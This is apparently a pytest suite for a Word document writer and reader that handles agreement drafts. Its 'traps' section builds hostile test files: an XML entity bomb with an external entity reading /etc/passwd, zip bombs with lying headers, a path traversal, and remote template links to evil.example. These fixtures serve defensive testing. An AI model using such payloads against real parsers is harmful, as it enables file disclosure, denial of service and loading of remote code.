"""Drafts in Word: what goes out comes back, however it was changed, and traps are refused."""

from __future__ import annotations

import io
import re
import zipfile
import zlib
from collections.abc import Callable
from datetime import date

import pytest
from docx import Document

from partnerdesk.domain.problems import RuleBroken
from partnerdesk.formats.docx_in import ReadDocx, read_docx
from partnerdesk.formats.docx_out import DocxDraft, DocxPart, docx_bytes

A, B = "0f8c0000-0000-4000-8000-00000000000a", "0f8c0000-0000-4000-8000-00000000000b"
DEAL = "0f8c0000-0000-4000-8000-0000000000ff"
MARKUP = '<w:b/> &amp; "x" {0} %s ]]> <!-- --> =1+1'


def draft(*parts: DocxPart, title: str = "Latin") -> bytes:
    usual = (
        DocxPart(A, "Transport", "Pupils walk.\n\nThey are back by 15:00."),
        DocxPart(B, "Money", "Each pays its own."),
    )
    return docx_bytes(
        DocxDraft(
            DEAL, "MOU-2026-001", title, 1, parts or usual, ("Latin",), date(2026, 3, 3)
        )
    )  # fmt: skip


def inside(content: bytes, name: str = "word/document.xml") -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return packed.read(name).decode()


def packed_anew(content: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        entries = {name: packed.read(name) for name in packed.namelist()}
    change(entries)
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as anew:
        for name, data in entries.items():
            anew.writestr(name, data)
    return kept.getvalue()


def with_text(content: bytes, *pairs: tuple[str, str]) -> bytes:
    """The document with pieces of its main text replaced."""

    def change(entries: dict[str, bytes]) -> None:
        text = entries["word/document.xml"].decode()
        for old, new in pairs:
            assert old in text, old
            text = text.replace(old, new, 1)
        entries["word/document.xml"] = text.encode()

    return packed_anew(content, change)


def bodies(read: ReadDocx) -> dict[str, str]:
    return {one.heading: one.body for one in read.sections}


def test_what_goes_out_comes_back_with_its_marks() -> None:
    read = read_docx(draft())
    assert read.agreement == DEAL.replace("-", "")
    assert [one.key for one in read.sections] == [A.replace("-", ""), B.replace("-", "")]
    assert bodies(read) == {
        "Transport": "Pupils walk.\n\nThey are back by 15:00.",
        "Money": "Each pays its own.",
    }
    assert read.notes == ()


def test_changes_are_tracked_and_the_document_names_no_program() -> None:
    content = draft()
    settings = inside(content, "word/settings.xml")
    assert settings.index("<w:trackRevisions/>") < settings.index("<w:defaultTabStop")
    assert "python" not in inside(content, "docProps/core.xml")
    names = re.findall(r'w:name="(pd[^"]*)"', inside(content))
    assert len(names) == 4
    assert all(len(name) <= 40 and re.fullmatch(r"[a-z]\w*", name) for name in names)


@pytest.mark.parametrize(
    "words",
    [MARKUP, "one\ntwo\n\nthree", "Ọláyínká · Łucja · 学校 · مدرسة · 👩🏽‍🏫", "a\x0b\ufffe\uffffb"],
)
def test_words_are_words(words: str) -> None:
    read = read_docx(draft(DocxPart(A, MARKUP, words), title=MARKUP))
    (one,) = read.sections
    assert one.heading == MARKUP
    assert one.body == re.sub("[\x0b\ufffe\uffff]", "", words)


def test_tracked_changes_are_read_as_accepted() -> None:
    read = read_docx(
        with_text(
            draft(),
            (
                "<w:t>Pupils walk.</w:t>",
                "<w:t>Pupils </w:t></w:r><w:del><w:r><w:delText>walk</w:delText></w:r></w:del>"
                "<w:ins><w:r><w:t>ride</w:t></w:r></w:ins><w:r><w:t>.</w:t>",
            ),
            (
                "<w:t>Each pays its own.</w:t></w:r>",
                "<w:t>Each</w:t></w:r><w:moveFrom><w:r><w:t> gone</w:t></w:r></w:moveFrom>"
                "<w:moveTo><w:r><w:t> pays</w:t></w:r></w:moveTo>"
                "<w:r><w:commentReference w:id='0'/></w:r>",
            ),
        )
    )
    assert bodies(read) == {
        "Transport": "Pupils ride.\n\nThey are back by 15:00.",
        "Money": "Each pays",
    }
    assert "1 comment" in read.notes[0]


GONE = "<w:del><w:r><w:delText>Money</w:delText></w:r></w:del>"


def test_a_deleted_paragraph_end_joins_two_and_a_deleted_heading_is_no_heading() -> None:
    mark = "<w:p><w:pPr><w:rPr><w:del/></w:rPr></w:pPr><w:r><w:t>Pupils walk.</w:t></w:r></w:p>"
    read = read_docx(
        with_text(
            draft(), ("<w:p><w:r><w:t>Pupils walk.</w:t></w:r></w:p>", mark),
            ("<w:r><w:t>Money</w:t></w:r>", GONE),
        )
    )  # fmt: skip
    assert bodies(read) == {
        "Transport": "Pupils walk. They are back by 15:00.",
        "": "Each pays its own.",
    }


def test_headings_reworded_or_without_their_mark_stay_sections() -> None:
    content = draft()
    unmarked = re.sub(r'<w:bookmarkStart w:id="2"[^>]*/>', "", inside(content))
    read = read_docx(
        with_text(
            content, (inside(content), unmarked),
            ("<w:t>Transport</w:t>", "<w:t>How we travel</w:t>"),
        )
    )  # fmt: skip
    assert [(one.key != "", one.heading) for one in read.sections] == [
        (True, "How we travel"),
        (False, "Money"),
    ]


def test_words_in_tables_and_controls_are_read_and_said() -> None:
    row = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>In a table</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    control = (
        "<w:sdt><w:sdtContent><w:p><w:r><w:t>In a box</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
    paragraph = "<w:p><w:r><w:t>Each pays its own.</w:t></w:r></w:p>"
    read = read_docx(with_text(draft(), (paragraph, paragraph + row + control)))
    assert bodies(read)["Money"] == "Each pays its own.\n\nIn a table\n\nIn a box"
    assert any("table" in words for words in read.notes)


def test_a_document_saved_by_another_program_reads_alike() -> None:
    document = Document(io.BytesIO(draft()))
    document.paragraphs[4].text = "Pupils ride."
    kept = io.BytesIO()
    document.save(kept)
    assert bodies(read_docx(kept.getvalue()))["Transport"].startswith("Pupils ride.")


# --- traps -----------------------------------------------------------------------------------


def entity(content: bytes) -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    types = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    start = inside(content).index("<w:document")
    text = inside(content)[start:].replace("Pupils walk.", "&l9;&f;")

    def change(entries: dict[str, bytes]) -> None:
        entries["word/document.xml"] = (types + text).encode()

    return packed_anew(content, change)


def doctype_in_utf16(content: bytes) -> bytes:
    text = inside(content)[inside(content).index("<w:document") :]

    def change(entries: dict[str, bytes]) -> None:
        entries["word/document.xml"] = (
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:document [<!ENTITY a "b">]>' + text
        ).encode("utf-16")

    return packed_anew(content, change)


def bomb(content: bytes) -> bytes:
    def change(entries: dict[str, bytes]) -> None:
        entries["word/document.xml"] = b"<a>" + b" " * (60 << 20) + b"</a>"

    return packed_anew(content, change)


def lying_bomb(content: bytes) -> bytes:
    """A zip whose headers say that the text is small."""
    honest = bomb(content)
    with zipfile.ZipFile(io.BytesIO(honest)) as packed:
        known = packed.getinfo("word/document.xml")
        size = known.file_size.to_bytes(4, "little")
    return honest.replace(size, (900).to_bytes(4, "little"))


def swollen_types(content: bytes) -> bytes:
    def change(entries: dict[str, bytes]) -> None:
        entries["[Content_Types].xml"] = b"<Types>" + b" " * (30 << 20) + b"</Types>"

    return packed_anew(content, change)


def crowded(content: bytes) -> bytes:
    def change(entries: dict[str, bytes]) -> None:
        entries.update({f"x/{number}": b"" for number in range(2_001)})

    return packed_anew(content, change)


def nested(content: bytes) -> bytes:
    return with_text(content, ("<w:body>", "<w:body>" + "<w:sdt>" * 5_000))


def main_elsewhere(name: str) -> Callable[[bytes], bytes]:
    def made(content: bytes) -> bytes:
        def change(entries: dict[str, bytes]) -> None:
            types = entries["[Content_Types].xml"].decode()
            entries["[Content_Types].xml"] = types.replace("/word/document.xml", name).encode()

        return packed_anew(content, change)

    return made


def without_body(content: bytes) -> bytes:
    def change(entries: dict[str, bytes]) -> None:
        entries["word/document.xml"] = b"<html><body/></html>"

    return packed_anew(content, change)


def broken(content: bytes) -> bytes:
    return content[: len(content) // 2]


def flipped(content: bytes) -> bytes:
    middle = content.index(b"word/document.xml") + 200
    return content[:middle] + bytes(64) + content[middle + 64 :]


TRAPS = {
    "entities": entity, "a definition in UTF-16": doctype_in_utf16, "bomb": bomb,
    "lying bomb": lying_bomb, "swollen types": swollen_types, "crowded": crowded,
    "nested": nested, "outside": main_elsewhere("/../../etc/passwd"),
    "link": main_elsewhere("http://evil.example/x"), "no body": without_body,
    "half": broken, "flipped": flipped, "empty": lambda content: b"",
    "text": lambda content: b"Dear all", "pdf": lambda content: b"%PDF-1.7",
    "old word": lambda content: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "a zip of nothing": lambda content: zlib.compress(b"") + b"PK\x05\x06" + bytes(18),
    "large": lambda content: content + bytes(20 << 20),
    "not xml": lambda content: with_text(content, ("<w:body>", "<w:body")),
}  # fmt: skip


@pytest.mark.parametrize("trap", TRAPS.values(), ids=TRAPS)
def test_a_hostile_or_broken_file_is_refused_in_words(trap: Callable[[bytes], bytes]) -> None:
    with pytest.raises(RuleBroken) as refusal:
        read_docx(trap(draft()))
    assert refusal.value.field == "file"
    assert refusal.value.message.endswith(".")


def test_links_outside_and_pictures_are_passed_over() -> None:
    def change(entries: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        entries[name] = entries[name].replace(
            b"</Relationships>",
            b'<Relationship Id="rId99" Type="http://x/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        )
        entries["word/vbaProject.bin"] = bytes(100)

    assert len(read_docx(packed_anew(draft(), change)).sections) == 2


def test_a_title_that_is_longer_than_word_takes_still_makes_a_document() -> None:
    title = "Latin and choir " * 40
    content = draft(title=title)
    assert title.strip() in inside(content)
    assert read_docx(content).agreement == DEAL.replace("-", "")
